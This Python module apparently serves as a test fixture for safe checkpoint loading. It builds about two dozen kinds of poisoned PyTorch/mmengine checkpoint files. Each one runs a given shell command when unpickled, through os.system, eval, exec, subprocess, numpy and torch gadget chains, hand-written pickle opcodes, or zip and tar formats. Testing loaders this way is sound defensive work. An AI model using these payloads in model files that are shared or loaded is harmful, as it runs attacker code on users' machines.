"""Files that run a command when they are unpickled without safety.

Every form is a function ``(path, content, command)`` that writes a file: the sound
``content`` of a checkpoint with a payload somewhere in it, or the payload alone.
"""

import io
import os
import pickle
import subprocess
import tarfile
import zipfile
from collections import OrderedDict

import numpy as np
import torch
from mmengine.logging import HistoryBuffer


class Call:
    """Pickled as the call of a function."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


class CallState(Call):
    """Pickled as a sound object whose state is set by a payload."""

    def __reduce__(self):
        return OrderedDict, (), Call(self.function, *self.args)


class CallItems(Call):
    """Pickled as a dict whose items come from a payload."""

    def __reduce__(self):
        pair = ('key', Call(self.function, *self.args))
        return OrderedDict, (), None, None, iter([pair])


def system(command):
    return Call(os.system, command)


def save(content, path, **options):
    torch.save(content, path, **options)


def beside(key):
    """A payload beside the weights, under a name that training writes."""

    def write(path, content, command):
        save({**content, key: {'state': [system(command)]}}, path)

    return write


def in_state_dict(path, content, command):
    state = OrderedDict(content['state_dict'])
    state['zz.payload'] = system(command)
    save({**content, 'state_dict': state}, path)


def as_state_dict(path, content, command):
    save({**content, 'state_dict': system(command)}, path)


def as_key(path, content, command):
    save({**content, system(command): 1}, path)


def alone(path, content, command):
    save(system(command), path)


def legacy(path, content, command):
    options = dict(_use_new_zipfile_serialization=False)
    save({**content, 'extra': system(command)}, path, **options)


def by(make):
    """A payload by another function than os.system."""

    def write(path, content, command):
        save({**content, 'extra': make(command)}, path)

    return write


def evaluated(command):
    return Call(eval, f'__import__("os").system({command!r})')


def executed(command):
    return Call(exec, f'import os; os.system({command!r})')


def opened(command):
    # the arguments of Popen up to `shell`
    return Call(subprocess.call, command, -1, *[None] * 5, True, True)


def mapped(command):
    return Call(list, Call(map, os.system, [command]))


def numpy_objects(command):
    """numpy's own reduce chain; the payload is in the array's list of objects."""
    array = np.empty(2, dtype=object)
    array[:] = [system(command), 1]
    return array


def numpy_scalar(command):
    return Call(np.float64(0).__reduce__()[0], np.dtype('f8'), system(command))


def forged_history(command):
    class Forged(HistoryBuffer):
        def __init__(self):
            """Only pickled."""

        def __reduce__(self):
            state = {'max_length': 9, '_log_history': system(command)}
            return HistoryBuffer, (), state

    return Forged()


def rebuilt_tensor(command):
    """A function of torch's own that calls what it is given."""
    rebuild = torch._tensor._rebuild_from_type_v2
    return Call(rebuild, os.system, torch.Tensor, (command,), {})


def opcodes(command):
    """``getattr(__import__('os'), 'system')(command)``, pickled by hand."""
    text = command.encode()
    return (
        b'\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n'
        b'(X\x02\0\0\0ostRX\x06\0\0\0systemtR'
        b'(X' + len(text).to_bytes(4, 'little') + text + b'tR.'
    )


def zip_by_hand(path, content, command):
    """torch's zip format, whose ``data.pkl`` torch.save would not write."""
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as archive:
        archive.writestr('archive/data.pkl', opcodes(command))
        archive.writestr('archive/byteorder', 'little')
        archive.writestr('archive/version', '3\n')


def bare_pickle(path, content, command):
    path.write_bytes(opcodes(command))


def pickled(protocol):
    def write(path, content, command):
        path.write_bytes(pickle.dumps(system(command), protocol=protocol))

    return write


def tar(member):
    """The format of PyTorch before 0.4, with the payload in one of its members."""

    def write(path, content, command):
        with tarfile.open(path, 'w', format=tarfile.USTAR_FORMAT) as archive:
            # no storages and no views of them, no tensors, and an object
            nothing = pickle.dumps(0, 2)
            parts = dict(storages=nothing + pickle.dumps([], 2), tensors=nothing)
            for name, data in (*parts.items(), ('pickle', nothing)):
                data = opcodes(command) if name == member else data
                entry = tarfile.TarInfo(name)
                entry.size = len(data)
                archive.addfile(entry, io.BytesIO(data))

    return write


FORMS = {
    'alone': alone,
    'zip': by(system),
    'legacy': legacy,
    'in-state-dict': in_state_dict,
    'as-state-dict': as_state_dict,
    'as-key': as_key,
    'optimizer': beside('optimizer'),
    'param_schedulers': beside('param_schedulers'),
    'message_hub': beside('message_hub'),
    'meta': beside('meta'),
    'eval': by(evaluated),
    'exec': by(executed),
    'subprocess': by(opened),
    'map': by(mapped),
    'state': by(lambda command: CallState(os.system, command)),
    'items': by(lambda command: CallItems(os.system, command)),
    'numpy-objects': by(numpy_objects),
    'numpy-scalar': by(numpy_scalar),
    'history': by(forged_history),
    'rebuilt-tensor': by(rebuilt_tensor),
    'zip-by-hand': zip_by_hand,
    'bare-pickle': bare_pickle,
    'pickle-0': pickled(0),
    'pickle-4': pickled(4),
    'tar-pickle': tar('pickle'),
    'tar-storages': tar('storages'),
}
# Those that differ most, for what takes longer.
MAIN = ('zip', 'legacy', 'in-state-dict', 'message_hub', 'zip-by-hand')
